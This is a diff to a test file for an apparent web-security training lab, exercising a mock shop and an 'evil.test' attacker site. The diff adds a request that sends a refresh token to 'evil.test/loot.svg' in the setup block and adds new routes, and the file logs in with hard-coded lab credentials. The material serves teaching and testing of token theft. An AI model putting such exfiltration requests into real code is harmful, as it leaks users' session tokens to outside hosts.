@@ -20,6 +20,7 @@ let jar: CookieJar
 beforeAll(async () => {
   test = await openTestLab()
   jar = newJar()
+  await ask(test.lab, 'https://evil.test/loot.svg?refresh_token=copied')
   for (const scheme of ['session', 'jwt', 'passport']) {
     await ask(test.lab, `https://shop.test/${scheme}/login`, { form: { user: 'admin', password: 'opensesame' }, jar })
   }
@@ -56,11 +57,13 @@ describe('docs/lab.md', () => {
     '/orders/': ['https://shop.test/orders/'],
     '/orders/1001': ['https://shop.test/orders/1004'],
     '/bearer/': ['https://shop.test/bearer/'],
+    '/refresh/': ['https://shop.test/refresh/'],
     '/first-look': ['https://shop.test/first-look'],
     '/first-look/check': ['https://shop.test/first-look/check'],
     'evil.test/': ['https://evil.test/'],
     'evil.test/first-look': ['https://evil.test/first-look'],
     'evil.test/prize': ['https://evil.test/prize'],
+    'evil.test/loot': ['https://evil.test/loot'],
     '/storage': ['https://shop.test/storage'],
     '/lab/echo': ['https://shop.test/lab/echo', { method: 'POST', body: 'x' }],
     '/lab/answer': ['https://shop.test/lab/answer?status=1'],
